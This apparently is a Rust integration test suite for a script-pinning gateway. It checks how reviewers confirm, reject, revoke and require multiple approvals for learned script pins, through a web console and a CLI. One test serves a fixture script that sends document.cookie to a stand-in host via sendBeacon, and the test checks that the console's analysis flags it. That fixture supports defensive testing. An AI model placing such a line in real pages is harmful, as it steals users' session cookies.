//! What was learned by itself, and what people say of it: on its page, and by the command.

use pinfold_integration_tests::{
    Gateway, GatewayBuilder, Looks, Rule, Vendor, client, driven, eventually, gateway, reviewer,
};
use serde_json::json;

use crate::admission::PASSWORD;
use crate::console::{signed_in, with_reviewers};
use crate::{REVIEWED, TAMPERED, refused, vendor_of, verified};

fn learning(vendor: &Vendor) -> GatewayBuilder {
    with_reviewers(gateway().rule(vendor, Rule::default().set("unpinned", "learn")))
}

/// The page of what was learned at a URL, and where its forms go.
async fn page_of(gateway: &Gateway, url: &str) -> (String, String) {
    let listed = signed_in(gateway, "vic").await.open("/pins?from=learned").await.body;
    let (before, _) =
        listed.split_once(&format!("\">{url}</a>")).unwrap_or_else(|| panic!("no {url}: {listed}"));
    let page = before.rsplit_once("href=\"").unwrap().1.to_owned();
    assert!(page.starts_with("/pins/learned/"), "{page}");
    let decide = format!("{page}/decide");
    (page, decide)
}

/// Has it learn what the vendor serves.
pub(crate) async fn taught(builder: GatewayBuilder, url: &str) -> Gateway {
    let gateway = builder.listen().await;
    assert_eq!(client(&gateway).get(url).await.verdict().reason(), Some("unpinned"));
    assert!(client(&gateway).get(url).await.verdict().is_provisional());
    gateway
}

fn says<'a>(act: &'a str, reason: &'a str) -> [(&'a str, &'a str); 3] {
    [("act", act), ("reason", reason), ("password", PASSWORD)]
}

async fn is_provisional(gateway: &Gateway, url: &str) -> bool {
    let reply = client(gateway).get(url).await;
    verified(&reply, REVIEWED);
    reply.verdict().is_provisional()
}

#[tokio::test]
async fn what_was_learned_is_opened_and_confirmed_and_people_stand_behind_it_at_once() {
    let vendor = vendor_of(REVIEWED).await;
    vendor.script("/other.js", "navigator.sendBeacon('https://collect.other.test/', document.cookie);");
    let (url, other) = (vendor.url("/app.js"), vendor.url("/other.js"));
    let gateway = taught(learning(&vendor), &url).await;
    client(&gateway).get(&other).await;
    let ada = signed_in(&gateway, "ada").await;
    let (page, _) = page_of(&gateway, &other).await;
    let shown = ada.open(&page).await.body;
    assert!(shown.contains("not on the shelf") && !shown.contains("/body\""), "{shown}");
    client(&gateway).get(&other).await;

    // All that it does, with nothing to compare it with.
    let mut shown = String::new();
    let analysed = async {
        while !shown.contains("All that it does") {
            shown = ada.open(&page).await.body;
        }
    };
    eventually("what was learned to be on the shelf and analysed", analysed).await;
    for said in [&*other, "All that it does", "collect.other.test", "sendBeacon", "served as script at"] {
        assert!(shown.contains(said), "no {said}: {shown}");
    }
    let (page, decide) = page_of(&gateway, &url).await;
    let bytes = ada.open(&format!("{page}/body")).await;
    assert_eq!((bytes.status, bytes.body.as_str()), (200, REVIEWED));
    assert!(bytes.field("content-disposition").unwrap().contains(".quarantined"), "{bytes:?}");

    let done = ada.fill(&page, &decide, &says("approve", "SEC-1: read it <all>")).await;

    assert_eq!((done.status, done.field("location")), (303, Some(&*page)), "{done:?}");
    assert!(!is_provisional(&gateway, &url).await);
    let after = ada.open(&page).await.body;
    for said in ["Decided.", "in force in the running gateway", "by ada@", "SEC-1: read it &#60;all&#62;"] {
        assert!(after.contains(said), "no {said}: {after}");
    }
    let learned = ada.open("/pins?from=learned").await.body;
    assert!(learned.contains(&other) && !learned.contains(&url), "{learned}");
    let approved = ada.open("/pins?from=approved").await.body;
    assert!(approved.contains("ada@") && !approved.contains("the first content"), "{approved}");
    let exported = ada.open("/pins.toml").await.body;
    assert!(exported.contains("SEC-1: read it <all>") && !exported.contains("incident"), "{exported}");
    gateway.command(&["audit", "verify"]).await.success();
}

#[tokio::test]
async fn what_was_learned_is_dropped_and_refused_at_once_and_never_learned_again() {
    let vendor = vendor_of(REVIEWED).await;
    let url = vendor.url("/app.js");
    let gateway = taught(learning(&vendor), &url).await;
    let ada = signed_in(&gateway, "ada").await;

    let (page, decide) = page_of(&gateway, &url).await;

    ada.fill(&page, &decide, &[("act", "reject"), ("reason", "SEC-2: nobody knows it")]).await;

    refused(&client(&gateway).get(&url).await, 403, "blocked", "rejected");
    let after = ada.open(&page).await.body;
    assert!(after.contains("nothing is learned there any more") && after.contains(">rejected<"), "{after}");
    vendor.script("/app.js", TAMPERED);
    assert_eq!(client(&gateway).get(&url).await.status(), 403);
    assert!(!ada.open("/pins?from=learned").await.body.contains(&url));
    gateway.command(&["audit", "verify"]).await.success();
}

#[tokio::test]
async fn a_learned_pin_is_confirmed_by_nobody_but_who_may_decide_proves_it_and_has_the_form() {
    let vendor = vendor_of(REVIEWED).await;
    let url = vendor.url("/app.js");
    let gateway = taught(learning(&vendor), &url).await;
    let (page, decide) = page_of(&gateway, &url).await;
    for page in [&page, &format!("{page}/body")] {
        let shown = reviewer(&gateway).open(page).await;
        assert!(shown.status == 303 && shown.body.is_empty(), "{page}: {shown:?}");
    }
    let (vic, ada) = (signed_in(&gateway, "vic").await, signed_in(&gateway, "ada").await);
    let looked = vic.open(&page).await;
    assert!(looked.status == 200 && !looked.body.contains("/decide"), "{}", looked.body);
    for act in ["approve", "reject"] {
        assert_eq!(vic.fill("/", &decide, &says(act, "SEC-1")).await.status, 403);
    }
    let with_token = |form: &'static str| [&[("form", form)][..], &says("approve", "SEC-1")].concat();
    assert_eq!(ada.send(&decide, &with_token("made up")).await.status, 403);
    for wrong in [
        &[("act", "approve"), ("reason", "SEC-1")][..],
        &[("act", "approve"), ("reason", "SEC-1"), ("password", "not hers")],
        &says("approve", " "),
        &[("act", "approve"), ("reason", "SEC-1"), ("password", PASSWORD), ("expires", "2020-01-01")],
    ] {
        ada.fill(&page, &decide, wrong).await;
        assert!(ada.open(&page).await.body.contains("Nothing was decided."), "{wrong:?}");
    }
    for nothing in [
        "/pins/learned/99",
        "/pins/learned/0",
        "/pins/learned/-1",
        "/pins/learned/x",
        "/pins/learned/99999999999999999999",
    ] {
        assert_eq!(ada.open(nothing).await.status, 404, "{nothing}");
        assert_eq!(ada.fill(&page, &format!("{nothing}/decide"), &says("maybe", "SEC-1")).await.status, 404);
    }
    assert!(is_provisional(&gateway, &url).await);
}

#[tokio::test]
async fn where_two_people_must_approve_two_must_confirm_and_a_revocation_wins() {
    let vendor = vendor_of(REVIEWED).await;
    let url = vendor.url("/app.js");
    let gateway = taught(learning(&vendor).set_in("review", "approvers", 2), &url).await;
    let (ada, bob) = (signed_in(&gateway, "ada").await, signed_in(&gateway, "bob").await);
    let (page, decide) = page_of(&gateway, &url).await;
    assert!(ada.open(&page).await.body.contains("It takes 2 approvals"));

    ada.fill(&page, &decide, &says("approve", "SEC-1")).await;
    ada.fill(&page, &decide, &says("approve", "SEC-1 again")).await;
    assert!(is_provisional(&gateway, &url).await);
    assert!(ada.open(&page).await.body.contains("You have confirmed it: 1 other person must too"));
    bob.fill(&page, &decide, &says("approve", "SEC-1 too")).await;
    assert!(!is_provisional(&gateway, &url).await);

    let digest = pinfold_integration_tests::sha256(REVIEWED);
    gateway.command(&["pin", "revoke", &digest, "--reason", "SEC-9"]).await.success();
    assert_eq!(client(&gateway).get(&url).await.status(), 403);
    let shown = ada.open(&page).await.body;
    assert!(shown.contains("It is revoked") && !shown.contains("/decide"), "{shown}");
    ada.fill("/", &decide, &says("approve", "SEC-1")).await;
    assert!(ada.open(&page).await.body.contains("a revoked digest is never released again"));
}

#[tokio::test]
async fn the_command_confirms_and_drops_as_the_page_does() {
    let vendor = vendor_of(REVIEWED).await;
    vendor.script("/other.js", REVIEWED);
    let (url, other) = (vendor.url("/app.js"), vendor.url("/other.js"));
    let gateway = taught(learning(&vendor), &url).await;
    client(&gateway).get(&other).await;

    let record = page_of(&gateway, &other).await.0.replace("/pins/learned/", "");
    let query = format!("{url}?cache=1");
    let confirmed = gateway.command(&["--json", "pin", "confirm", &query, "--reason", "SEC-1"]).await;
    let confirmed = confirmed.success().json();
    assert_eq!(
        [&confirmed["state"], &confirmed["basis"], &confirmed["already"], &confirmed["in_force"]],
        [&json!("approved"), &json!("reviewed"), &json!(false), &json!("yes")]
    );
    assert!(!is_provisional(&gateway, &url).await);
    let dropped =
        gateway.command(&["pin", "confirm", &record, "--drop", "--reason", "SEC-2"]).await.success().text();
    assert!(
        dropped.contains("dropped") && dropped.contains("nothing is learned there any more"),
        "{dropped}"
    );
    refused(&client(&gateway).get(&other).await, 403, "blocked", "rejected");
    for nothing in [&*url, "99", &*other] {
        assert_eq!(
            gateway.command(&["pin", "confirm", nothing, "--reason", "SEC-3"]).await.code,
            Some(3),
            "{nothing}"
        );
    }
    assert_eq!(gateway.command(&["pin", "confirm", &record]).await.code, Some(2), "a decision has a reason");
}

#[tokio::test]
async fn a_learned_pin_is_confirmed_in_chromium_on_a_small_screen() {
    let vendor = vendor_of(REVIEWED).await;
    let url = vendor.url("/app.js");
    let gateway = taught(learning(&vendor), &url).await;
    let browser = driven(Looks { width: 360, height: 800, dark: true }).await;
    browser.open(&format!("http://{}/", gateway.console().unwrap())).await;
    browser.types("name", "ada").await;
    browser.types("password", PASSWORD).await;
    browser.clicks("main button").await;
    browser.clicks("a[href='/pins']").await;
    browser.clicks("ol.queue h2 a").await;
    assert!(browser.text().await.contains("nobody has reviewed them"), "{}", browser.text().await);
    let wide = browser.value("document.documentElement.scrollWidth").await;
    assert!(wide.as_u64().unwrap() <= 360, "{wide}");
    browser.types("approve-reason", "SEC-1: read it all").await;
    browser.types("password", PASSWORD).await;
    browser.clicks("button.go").await;
    assert!(browser.text().await.contains("Decided."), "{}", browser.text().await);
    assert!(!is_provisional(&gateway, &url).await);
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    browser.quit().await;
}
